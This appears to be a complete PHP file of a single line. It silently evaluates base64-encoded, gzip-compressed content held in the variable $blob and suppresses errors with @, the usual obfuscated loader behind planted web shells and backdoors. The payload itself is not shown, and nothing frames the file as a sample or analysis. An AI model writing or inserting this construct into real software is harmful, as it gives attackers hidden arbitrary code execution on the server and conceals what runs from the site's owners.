<?php
@eval(gzinflate(base64_decode($blob)));
